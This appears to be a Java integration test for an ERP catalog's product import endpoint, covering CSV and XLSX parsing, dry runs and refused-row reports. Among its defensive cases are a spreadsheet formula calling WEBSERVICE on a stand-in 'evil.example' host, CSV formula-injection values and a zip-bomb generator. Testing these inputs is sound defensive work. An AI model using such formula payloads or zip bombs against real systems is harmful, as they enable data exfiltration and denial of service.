package com.tsh.erp.catalog;

import static io.restassured.RestAssured.given;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.startsWith;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.tsh.erp.catalog.jobs.ProductImport;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;
import io.restassured.response.Response;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.InputStreamReader;
import java.io.Reader;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/**
 * The products import job through the routes an app uses: upload (multipart), follow the job, read what it counted
 * and the file of refused rows, and check the products (and their events) in the database. Round trips with the
 * export in both formats; the bad files of the issue.
 */
@QuarkusTest
class ProductImportTest extends CatalogTestBase {

    private static final String XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
    private static final byte[] BOM = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};

    private static Response upload(byte[] file, String name, String type, boolean dryRun) {
        return given().multiPart("file", name, file, type).multiPart("dry_run", String.valueOf(dryRun)).post("/products/imports");
    }

    /** Uploads, waits for the job to end; the job as GET /jobs/{id} shows it then. */
    private static JsonPath imported(byte[] file, String name, String type, boolean dryRun, String endState) {
        Response started = upload(file, name, type, dryRun);
        started.then().statusCode(202).header("Location", startsWith("/jobs/catalog-service-"))
                .body("kind", equalTo(ProductImport.KIND)).body("state", equalTo("QUEUED"));
        String id = started.path("id");
        await().atMost(Duration.ofSeconds(120)).pollInterval(Duration.ofMillis(200)).until(() ->
                List.of("SUCCEEDED", "FAILED", "CANCELLED").contains(given().get("/jobs/" + id).then().statusCode(200)
                        .extract().<String>path("state")));
        JsonPath job = given().get("/jobs/" + id).then().statusCode(200).extract().jsonPath();
        assertEquals(endState, job.getString("state"), () -> "job " + job.prettify());
        return job;
    }

    private static List<CSVRecord> refusals(JsonPath job) throws Exception {
        byte[] bytes = given().get("/jobs/" + job.getString("id") + "/result").then().statusCode(200)
                .contentType("text/csv; charset=UTF-8").extract().asByteArray();
        assertEquals((byte) 0xEF, bytes[0], "UTF-8 byte-order mark");
        try (Reader r = new InputStreamReader(new ByteArrayInputStream(bytes, 3, bytes.length - 3), StandardCharsets.UTF_8)) {
            List<CSVRecord> records = CSVFormat.DEFAULT.parse(r).getRecords();
            assertEquals(List.of("row", "sku", "field", "value", "reason"), records.get(0).toList());
            return records.subList(1, records.size());
        }
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] all = new byte[a.length + b.length];
        System.arraycopy(a, 0, all, 0, a.length);
        System.arraycopy(b, 0, all, a.length, b.length);
        return all;
    }

    private long events(String sku) {
        return db.count("select count(*) from tsh_outbox o join product p on o.message_key = p.id::text where p.sku = ?", sku);
    }

    @Test
    void aSemicolonCsvWithABomCreatesUpdatesAndListsEachRefusedRowWithItsFieldAndReason() throws Exception {
        String existing = Catalog.uniqueSku("IMP");
        long existingId = Catalog.createProduct(Catalog.productBody(existing, "Charger 20W", "شاحن ٢٠ واط")).getLong("id");
        long category = Catalog.category("Chargers", "شواحن", null);
        String a = Catalog.uniqueSku("IMP");
        String b = Catalog.uniqueSku("IMP");
        String bad = Catalog.uniqueSku("IMP");
        String csv = "SKU;name;name_ar;category_id;retail_price;wholesale_price;stock_on_hand;active\r\n"
                + existing + ";Charger 20W;شاحن ٢٠ واط;" + category + ";8000,50;6500;999;no\r\n"
                + a + ";\"Cable; braided\";كابل مضفر;;1500;1200;30;\r\n"
                + b + ";'=1+2;'@كابل;;2000.25;1800;;yes\r\n"
                + bad + ";Case;غطاء;" + category + ";abc;;;\r\n"
                + ";No SKU;بلا رمز;;1;1;;\r\n"
                + a.toLowerCase() + ";Again;مرة أخرى;;1;1;;\r\n"
                + Catalog.uniqueSku("IMP") + ";Missing Arabic;;;1;1;;\r\n"
                + Catalog.uniqueSku("IMP") + ";No category;بلا فئة;99999999;1;1;;\r\n";
        JsonPath job = imported(concat(BOM, bytes(csv)), "products.csv", "text/csv", false, "SUCCEEDED");
        assertEquals(Map.of("rows", 8, "created", 2, "updated", 1, "unchanged", 0, "refused", 5), job.getMap("counts"));
        assertEquals(8, job.getInt("progress.done"));

        assertEquals("8000.50", db.text("select retail_price::text from product where id = ?", existingId));
        assertEquals("6500.00", db.text("select wholesale_price::text from product where id = ?", existingId));
        assertEquals(String.valueOf(category), db.text("select category_id::text from product where id = ?", existingId));
        assertEquals("false", db.text("select active::text from product where id = ?", existingId));
        assertEquals("4250.50", db.text("select cost_price::text from product where id = ?", existingId), "no cost_price column: kept");
        assertEquals("0", db.text("select stock_on_hand::text from product where id = ?", existingId), "stock is not imported onto an existing product");
        assertEquals("Cable; braided|كابل مضفر|30|piece|true", db.text(
                "select name || '|' || name_ar || '|' || stock_on_hand || '|' || unit || '|' || active from product where sku = ?", a));
        assertEquals("=1+2|@كابل|2000.25", db.text("select name || '|' || name_ar || '|' || retail_price from product where sku = ?", b),
                "the export's apostrophe is taken off; the text is stored as text");
        assertEquals(1, events(b), "a created product's event is in the outbox (b has no stock, so no stock event)");
        assertEquals(0, db.count("select count(*) from product where sku = ?", bad));
        assertEquals("user:test-admin", db.text("select o.envelope->>'actor' from tsh_outbox o join product p on o.message_key = p.id::text"
                + " where p.sku = ? limit 1", a));

        List<CSVRecord> refused = refusals(job);
        assertEquals(List.of("5", bad, "retail_price", "abc", "is not an amount (write 1250.50)"), refused.get(0).toList());
        assertEquals(List.of("6", "", "sku", "", "is required"), refused.get(1).toList());
        assertEquals("sku", refused.get(2).get(2));
        assertTrue(refused.get(2).get(4).contains("row 3 has it already"), refused.get(2).get(4));
        assertEquals(List.of("8", "name_ar", "must not be empty"), List.of(refused.get(3).get(0), refused.get(3).get(2), refused.get(3).get(4)));
        assertEquals(List.of("9", "category_id", "category 99999999 does not exist"),
                List.of(refused.get(4).get(0), refused.get(4).get(2), refused.get(4).get(4)));
        assertEquals(5, refused.size());
    }

    @Test
    void anExportImportedBackChangesNothingInEitherFormat() {
        Catalog.product("Round trip", "ذهاب وإياب", 3);
        for (String format : List.of("csv", "xlsx")) {
            String exportId = ProductExportTest.finishedExport(format);
            byte[] file = given().get("/jobs/" + exportId + "/result").then().statusCode(200).extract().asByteArray();
            long products = db.count("select count(*) from product");
            long versions = db.count("select coalesce(sum(version), 0) from product");
            long outbox = db.count("select count(*) from tsh_outbox");
            JsonPath job = imported(file, "products." + format, format.equals("csv") ? "text/csv" : XLSX, false, "SUCCEEDED");
            assertEquals(products, job.getLong("counts.unchanged"), format + ": " + job.prettify());
            assertEquals(0, job.getLong("counts.refused") + job.getLong("counts.created") + job.getLong("counts.updated"), format);
            assertEquals(versions, db.count("select coalesce(sum(version), 0) from product"), format + ": no product got a new version");
            assertEquals(outbox, db.count("select count(*) from tsh_outbox"), format + ": no event");
            assertTrue(job.get("result") == null, "nothing refused, no file");
        }
    }

    @Test
    void anXlsxImportTakesTypedCellsAndRefusesFormulasWithoutEvaluatingThem() throws Exception {
        String sku = Catalog.uniqueSku("IMPX");
        String formula = Catalog.uniqueSku("IMPX");
        byte[] file;
        try (XSSFWorkbook book = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            Sheet sheet = book.createSheet("Products");
            Row h = sheet.createRow(0);
            String[] header = {"sku", "name", "name_ar", "retail_price", "wholesale_price", "stock_on_hand", "active"};
            for (int i = 0; i < header.length; i++) {
                h.createCell(i).setCellValue(header[i]);
            }
            Row r = sheet.createRow(1);
            r.createCell(0).setCellValue(sku);
            r.createCell(1).setCellValue("Power bank");
            r.createCell(2).setCellValue("بطارية متنقلة");
            r.createCell(3).setCellValue(12.35);
            r.createCell(4).setCellValue(10);
            r.createCell(5).setCellValue(7);
            r.createCell(6).setCellValue(true);
            sheet.createRow(2); // an empty row is skipped
            Row f = sheet.createRow(3);
            f.createCell(0).setCellValue(formula);
            f.createCell(1).setCellValue("Formula");
            f.createCell(2).setCellValue("صيغة");
            f.createCell(3).setCellFormula("WEBSERVICE(\"http://evil.example\")");
            f.createCell(4).setCellValue(1);
            book.write(out);
            file = out.toByteArray();
        }
        JsonPath job = imported(file, "products.xlsx", XLSX, false, "SUCCEEDED");
        assertEquals(Map.of("rows", 2, "created", 1, "updated", 0, "unchanged", 0, "refused", 1), job.getMap("counts"));
        assertEquals("Power bank|12.35|10.00|7|true", db.text("select name || '|' || retail_price || '|' || wholesale_price"
                + " || '|' || stock_on_hand || '|' || active from product where sku = ?", sku));
        List<CSVRecord> refused = refusals(job);
        assertEquals(List.of("4", formula, "retail_price", "(formula)", "is a formula; type the value (formulas are never evaluated)"),
                refused.get(0).toList());
    }

    @Test
    void aDryRunChecksEveryRowAndChangesNothing() throws Exception {
        String existing = Catalog.uniqueSku("IMPD");
        long id = Catalog.createProduct(Catalog.productBody(existing, "Dry", "جاف")).getLong("id");
        String fresh = Catalog.uniqueSku("IMPD");
        long outbox = db.count("select count(*) from tsh_outbox");
        String csv = "sku,retail_price,name,name_ar,wholesale_price\n" + existing + ",1.00,,,\n"
                + fresh + ",5,New,جديد,4\n" + Catalog.uniqueSku("IMPD") + ",-3,Neg,سالب,1\n";
        JsonPath job = imported(bytes(csv), "dry.csv", "text/csv", true, "SUCCEEDED");
        assertEquals(Map.of("rows", 3, "created", 1, "updated", 0, "unchanged", 0, "refused", 2), job.getMap("counts"));
        assertTrue(job.getString("progress.message").startsWith("dry run (nothing changed)"), job.getString("progress.message"));
        assertEquals(0, db.count("select count(*) from product where sku = ?", fresh));
        assertEquals("7500.00", db.text("select retail_price::text from product where id = ?", id));
        assertEquals(outbox, db.count("select count(*) from tsh_outbox"));
        List<CSVRecord> refused = refusals(job);
        assertEquals(List.of("2", "name"), List.of(refused.get(0).get(0), refused.get(0).get(2)), "an empty required cell");
        assertEquals(List.of("2", "name_ar"), List.of(refused.get(1).get(0), refused.get(1).get(2)));
        // the negative price of row 4: the API's own rule
        given().get("/jobs/" + job.getString("id")).then().body("counts.refused", equalTo(2));
    }

    @Test
    void filesThatAreNotWhatTheySayOrTooLargeAreRefusedAtOnceAndNoJobIsMade() {
        long jobs = db.count("select count(*) from tsh_job");
        byte[] png = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n', 0, 0, 0, 0};
        upload(png, "products.csv", "text/csv", false).then().statusCode(415).contentType("application/problem+json")
                .body("errors[0].field", equalTo("file"));
        upload(bytes("sku,name\nA,B\n"), "products.xlsx", XLSX, false).then().statusCode(422)
                .contentType("application/problem+json").body("errors[0].field", equalTo("file"))
                .body("errors[0].message", containsString("its bytes are text (CSV)"));
        upload(new byte[0], "empty.csv", "text/csv", false).then().statusCode(422).body("errors[0].field", equalTo("file"));
        upload(bytes("sku\nA\n"), "p.csv", "text/csv", false).then(); // a good one, for the count below
        given().multiPart("file", "p.csv", bytes("sku\nA\n"), "text/csv").multiPart("dry_run", "perhaps")
                .post("/products/imports").then().statusCode(400).body("errors[0].field", equalTo("dry_run"));
        given().multiPart("other", "x").post("/products/imports").then().statusCode(400)
                .body("errors[0].field", equalTo("file"));
        byte[] big = new byte[10 * 1024 * 1024 + 1];
        java.util.Arrays.fill(big, (byte) 'a');
        upload(big, "big.csv", "text/csv", false).then().statusCode(413).contentType("application/problem+json")
                .body("errors[0].field", equalTo("file"));
        assertEquals(jobs + 1, db.count("select count(*) from tsh_job"), "only the good upload made a job");
    }

    @Test
    void unreadableFilesFailTheJobWithAReasonAndNothingIsApplied() throws Exception {
        String first = Catalog.uniqueSku("IMPB");
        // row 2 is good, row 3 is not UTF-8 (Latin-1 é): the whole file is refused, row 2 included
        byte[] latin1 = concat(bytes("sku,name,name_ar,retail_price,wholesale_price\n" + first + ",Good,جيد,1,1\nB-2,Caf"),
                new byte[] {(byte) 0xE9, ',', 'x', ',', '1', ',', '1', '\n'});
        JsonPath job = imported(latin1, "latin1.csv", "text/csv", false, "FAILED");
        assertEquals("the file is not UTF-8 text (line 3 has bytes that are not); save it as \"CSV UTF-8\" and upload it again",
                job.getString("error"));
        assertEquals(0, db.count("select count(*) from product where sku = ?", first), "nothing half-applied");

        byte[] utf16 = concat(new byte[] {(byte) 0xFF, (byte) 0xFE}, "sku\n".getBytes(StandardCharsets.UTF_16LE));
        assertTrue(imported(utf16, "u.csv", "text/csv", false, "FAILED").getString("error").contains("UTF-16"));

        assertTrue(imported(bytes("sku,price\nA,1\n"), "p.csv", "text/csv", false, "FAILED").getString("error")
                .contains("does not know: \"price\""));
        assertTrue(imported(bytes("name,name_ar\nA,ب\n"), "p.csv", "text/csv", false, "FAILED").getString("error")
                .contains("no sku column"));

        // an XLSX whose sheet inflates a thousand times: POI refuses it before building it
        byte[] bomb = zipBomb();
        JsonPath bombJob = imported(bomb, "bomb.xlsx", XLSX, false, "FAILED");
        assertTrue(bombJob.getString("error").contains("zip bomb"), bombJob.getString("error"));
        // a zip that is no workbook
        ByteArrayOutputStream zip = new ByteArrayOutputStream();
        try (ZipOutputStream z = new ZipOutputStream(zip)) {
            z.putNextEntry(new ZipEntry("readme.txt"));
            z.write(bytes("hello"));
            z.closeEntry();
        }
        assertTrue(imported(zip.toByteArray(), "x.xlsx", XLSX, false, "FAILED").getString("error").contains("not an XLSX"));
    }

    /** A real workbook whose sheet part is replaced by 60 MB of spaces inside a valid sheet (compressed: ~60 KB). */
    private static byte[] zipBomb() throws Exception {
        byte[] workbook;
        try (XSSFWorkbook book = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            book.createSheet("Products").createRow(0).createCell(0).setCellValue("sku");
            book.write(out);
            workbook = out.toByteArray();
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(workbook)); ZipOutputStream z = new ZipOutputStream(out)) {
            for (ZipEntry e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
                z.putNextEntry(new ZipEntry(e.getName()));
                if (e.getName().equals("xl/worksheets/sheet1.xml")) {
                    z.write(bytes("<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>"));
                    byte[] spaces = new byte[1024 * 1024];
                    java.util.Arrays.fill(spaces, (byte) ' ');
                    for (int i = 0; i < 60; i++) {
                        z.write(spaces);
                    }
                    z.write(bytes("</sheetData></worksheet>"));
                } else {
                    in.transferTo(z);
                }
                z.closeEntry();
            }
        }
        return out.toByteArray();
    }
}
